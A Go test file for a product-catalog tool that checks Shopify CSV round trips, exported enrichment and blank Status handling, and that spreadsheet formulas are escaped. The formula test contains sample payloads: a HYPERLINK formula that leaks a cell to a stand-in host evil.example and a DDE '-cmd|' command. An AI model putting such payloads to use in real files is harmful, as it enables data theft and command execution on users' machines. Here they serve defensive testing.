package catalog

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/catalog-enrichment/enrichment/enrichment"
)

// Real Shopify files (testdata/shopify/README.md says where each comes
// from): imported and exported again with nothing accepted, each gives
// back, row for row, every column the round trip keeps.

// roundTripColumns are the columns compared, besides the metafields.
var roundTripColumns = []string{colHandle, colTitle, colBody, colVendor, colCategory, colType, colStatus, colPublished,
	"Option1 Name", "Option1 Value", "Option2 Name", "Option2 Value", "Option3 Name", "Option3 Value",
	colSKU, colBarcode, colImage, colVariantImage}

var metafieldHeader = regexp.MustCompile(`\(product\.metafields\.([^()\s]+)\)\s*$`)

// shopifyCells reads a Shopify CSV into one map a row: the compared
// columns by name (those of only, when given), each metafield as
// "metafield NS.KEY" (label aside). Empty cells are left out, so that a
// column one file lacks and the other leaves empty compare equal.
func shopifyCells(t *testing.T, file []byte, only ...string) []map[string]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(file, utf8BOM))).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v", err)
	}
	names := make([]string, len(rows[0]))
	for i, h := range rows[0] {
		h = enrichment.UnescapeFormula(h)
		for _, c := range roundTripColumns {
			if strings.EqualFold(strings.TrimSpace(h), c) && (only == nil || slices.Contains(only, c)) {
				names[i] = c
			}
		}
		if m := metafieldHeader.FindStringSubmatch(h); m != nil {
			names[i] = "metafield " + m[1]
		}
	}
	var out []map[string]string
	for _, r := range rows[1:] {
		cells := map[string]string{}
		for i, c := range r {
			c = enrichment.UnescapeFormula(c)
			if names[i] != colBody {
				c = strings.TrimSpace(c)
			}
			if names[i] != "" && c != "" {
				cells[names[i]] = c
			}
		}
		out = append(out, cells)
	}
	return out
}

// diffRows lists the cells in which two files differ, row by row.
func diffRows(was, now []map[string]string) []string {
	var diffs []string
	for i := range max(len(was), len(now)) {
		var a, b map[string]string
		if i < len(was) {
			a = was[i]
		}
		if i < len(now) {
			b = now[i]
		}
		keys := map[string]bool{}
		for k := range a {
			keys[k] = true
		}
		for k := range b {
			keys[k] = true
		}
		for _, k := range slices.Sorted(func(yield func(string) bool) {
			for k := range keys {
				if !yield(k) {
					return
				}
			}
		}) {
			if a[k] != b[k] {
				diffs = append(diffs, fmt.Sprintf("row %d (%s), %s: %q -> %q", i+2, cmpOr(a[colHandle], b[colHandle]), k, a[k], b[k]))
			}
		}
	}
	return diffs
}

func TestShopifyRoundTripOfRealFiles(t *testing.T) {
	files := []struct {
		name              string
		products          int
		variantImages     int
		metafields        int
		statuses, publish string // the Status and Published values the file has, sorted and joined
	}{
		{"product_template.csv", 16, 15, 0, "active archived draft", "FALSE TRUE"},
		{"apparel.csv", 22, 0, 0, "", "true"}, // no Status column
		{"packt_product_data.csv", 21, 0, 0, "active", "true"},
		{"commercemain_products_export.csv", 37, 3, 73, "active", "true"},
	}
	app := newApp(t)
	for _, f := range files {
		t.Run(f.name, func(t *testing.T) {
			original, err := os.ReadFile(filepath.Join("testdata", "shopify", f.name))
			if err != nil {
				t.Fatal(err)
			}
			org := newOrg(t, app, f.name)
			res := mustImport(t, app, org, string(original), Options{Format: FormatShopifyCSV})
			if res.Created != f.products {
				t.Errorf("imported %+v, want %d products", res, f.products)
			}
			was := shopifyCells(t, original)
			// note: a column the file lacks is not compared (apparel.csv has
			// no Status, which the export writes)
			var columns []string
			for _, r := range was {
				for k := range r {
					columns = append(columns, k)
				}
			}
			now := shopifyCells(t, export(t, app, org, FormatShopifyCSV), columns...)
			for _, d := range diffRows(was, now) {
				t.Error(d)
			}
			// what the file holds that an export used to lose is there
			count := func(rows []map[string]string, prefix string) (n int, values []string) {
				for _, r := range rows {
					for k, v := range r {
						if strings.HasPrefix(k, prefix) {
							n++
							if !slices.Contains(values, v) {
								values = append(values, v)
							}
						}
					}
				}
				slices.Sort(values)
				return n, values
			}
			if n, _ := count(now, colVariantImage); n != f.variantImages {
				t.Errorf("%d variant images exported, want %d", n, f.variantImages)
			}
			if n, _ := count(now, "metafield "); n != f.metafields {
				t.Errorf("%d metafield values exported, want %d", n, f.metafields)
			}
			if _, s := count(now, colStatus); strings.Join(s, " ") != f.statuses && f.statuses != "" {
				t.Errorf("statuses %q, want %q", s, f.statuses)
			}
			if _, p := count(now, colPublished); strings.Join(p, " ") != f.publish {
				t.Errorf("published %q, want %q", p, f.publish)
			}

			// the export, imported again, changes nothing
			before := productsAsStored(t, app, org)
			again := mustImport(t, app, org, string(export(t, app, org, FormatShopifyCSV)), Options{Format: FormatShopifyCSV, DeactivateMissing: true})
			if again.Unchanged != f.products || again.Updated+again.Created+again.Deactivated != 0 {
				t.Errorf("re-import of the export: %+v", again)
			}
			sameProducts(t, before, productsAsStored(t, app, org))
		})
	}
}

// TestShopifyExportOfEnrichment: enrichment accepted on products of a real
// store's export changes exactly the cells it set, and a new attribute
// comes out as a custom.KEY metafield column.
func TestShopifyExportOfEnrichment(t *testing.T) {
	app := newApp(t)
	org := newOrg(t, app, "Store")
	original, err := os.ReadFile(filepath.Join("testdata", "shopify", "commercemain_products_export.csv"))
	if err != nil {
		t.Fatal(err)
	}
	mustImport(t, app, org, string(original), Options{Format: FormatShopifyCSV})
	before := shopifyCells(t, export(t, app, org, FormatShopifyCSV))

	client := newClient(t, app, org)
	accept(t, app, org, client, "mores-collagen", enrichment.Fields{
		Description: ptr("<p>Collagen with L-glutamine, enriched.</p>"),
		Attributes: attrs(enrichment.StoredAttribute{Attribute: "Age group", Detail: "adults; seniors"}, // from shopify.age-group
			enrichment.StoredAttribute{Attribute: "Serving size", Detail: "10 g"}),
	})
	accept(t, app, org, client, "brazilian-arabica-coffee", enrichment.Fields{
		Attributes: attrs(enrichment.StoredAttribute{Attribute: "Åldersgrupp", Detail: "vuxna"}),
	})
	file := export(t, app, org, FormatShopifyCSV)
	header, _, _ := bytes.Cut(file, []byte("\n"))
	for _, col := range []string{"Serving size (product.metafields.custom.serving_size)", "Åldersgrupp (product.metafields.custom._ldersgrupp)",
		"Age group (product.metafields.shopify.age-group)"} {
		if !bytes.Contains(header, []byte(col)) {
			t.Errorf("no column %q in the header %s", col, header)
		}
	}
	diffs := diffRows(before, shopifyCells(t, file))
	want := []string{
		`(mores-collagen), Body (HTML): "<p …</ul>" -> "<p>Collagen with L-glutamine, enriched.</p>"`,
		`(mores-collagen), metafield custom.serving_size: "" -> "10 g"`,
		`(mores-collagen), metafield shopify.age-group: "adults" -> "adults; seniors"`,
		`(brazilian-arabica-coffee), metafield custom._ldersgrupp: "" -> "vuxna"`,
	}
	if len(diffs) != len(want) {
		t.Fatalf("changed cells:\n%s\nwant %d", strings.Join(diffs, "\n"), len(want))
	}
	for _, w := range want {
		parts := strings.Split(w, "…") // the body was long: its middle is left out
		if !slices.ContainsFunc(diffs, func(d string) bool {
			return strings.Contains(d, parts[0]) && strings.HasSuffix(d, parts[len(parts)-1])
		}) {
			t.Errorf("no change %s among\n%s", w, strings.Join(diffs, "\n"))
		}
	}
}

// TestShopifyFormulaCells: a value that begins like a spreadsheet formula,
// accepted from a vendor, is written behind a leading quote (in a cell or a
// header), and importing the file removes exactly that quote again; a file
// whose cells carry such quotes is read without them.
func TestShopifyFormulaCells(t *testing.T) {
	app := newApp(t)
	org := newOrg(t, app, "Shop")
	mustImport(t, app, org, "Handle,Title,Body (HTML),Variant SKU\nmug,Mug,<p>A mug.</p>,MUG-1\nquoted,'Quoted,'-x,Q-1\n",
		Options{Format: FormatShopifyCSV})
	client := newClient(t, app, org)
	hyperlink := `=HYPERLINK("http://evil.example/?leak="&A2,"Click")`
	accept(t, app, org, client, "MUG-1", enrichment.Fields{Name: ptr(hyperlink), Description: ptr("@SUM(1+1)"),
		Attributes: attrs(enrichment.StoredAttribute{Attribute: "+Grip", Detail: "-cmd|' /C calc'!A0"},
			enrichment.StoredAttribute{Attribute: "Size", Detail: "-5"},
			enrichment.StoredAttribute{Attribute: "Fit", Detail: "\tRelaxed"}, enrichment.StoredAttribute{Attribute: "Note", Detail: "\r=cr"})})
	ps := byExternalID(t, app, org)
	if q := ps["quoted"]; q.Name != "'Quoted" || q.Description != "-x" {
		t.Errorf("a quote before text that is no formula is kept, one before a formula removed: %+v", q)
	}

	file := export(t, app, org, FormatShopifyCSV)
	rows, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		for _, c := range r {
			if enrichment.FormulaLike(c) {
				t.Errorf("a cell a spreadsheet would run: %q", c)
			}
		}
	}
	for _, want := range []string{`'` + hyperlink, "'@SUM(1+1)", "'-cmd|' /C calc'!A0", "'+Grip (product.metafields.custom._grip)",
		"-5", "'-x", "'Quoted", "'\tRelaxed", "'\r=cr"} {
		if !slices.ContainsFunc(rows, func(r []string) bool { return slices.Contains(r, want) }) {
			t.Errorf("no cell %q in\n%s", want, file)
		}
	}

	before := productsAsStored(t, app, org)
	res := mustImport(t, app, org, string(file), Options{Format: FormatShopifyCSV, DeactivateMissing: true})
	if res.Unchanged != 2 || res.Updated != 0 {
		t.Errorf("re-import of the export: %+v", res)
	}
	sameProducts(t, before, productsAsStored(t, app, org))
	copyOrg := newOrg(t, app, "Copy")
	mustImport(t, app, copyOrg, string(file), Options{Format: FormatShopifyCSV})
	mug := byExternalID(t, app, copyOrg)["mug"]
	if mug.Name != hyperlink || mug.Description != "@SUM(1+1)" ||
		!strings.Contains(mug.Attributes, `{"attribute":"+Grip","detail":"-cmd|' /C calc'!A0"}`) {
		t.Errorf("read back without the quotes: %+v", mug)
	}
}

// A Status cell left blank (Published deciding) is written back blank:
// Shopify reads a blank Status otherwise than draft.
func TestShopifyBlankStatusKeptBlank(t *testing.T) {
	app := newApp(t)
	org := newOrg(t, app, "Shop")
	mustImport(t, app, org, "Handle,Title,Variant SKU,Status,Published\nhidden,Hidden,H-1,,FALSE\nshown,Shown,S-1,,TRUE\nnone,None,N-1,,\n",
		Options{Format: FormatShopifyCSV})
	ps := byExternalID(t, app, org)
	if ps["hidden"].Active || !ps["shown"].Active || !ps["none"].Active {
		t.Errorf("active from Published: %+v", ps)
	}
	file := export(t, app, org, FormatShopifyCSV)
	rows, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	status, published := slices.Index(rows[0], "Status"), slices.Index(rows[0], "Published")
	want := map[string][2]string{"hidden": {"", "FALSE"}, "shown": {"", "TRUE"}, "none": {"", ""}}
	for _, r := range rows[1:] {
		if w, ok := want[r[0]]; ok && (r[status] != w[0] || r[published] != w[1]) {
			t.Errorf("%s: Status %q, Published %q; want %q, %q", r[0], r[status], r[published], w[0], w[1])
		}
	}
	before := productsAsStored(t, app, org)
	if res := mustImport(t, app, org, string(file), Options{Format: FormatShopifyCSV}); res.Unchanged != 3 {
		t.Errorf("re-import of the export: %+v", res)
	}
	sameProducts(t, before, productsAsStored(t, app, org))
}
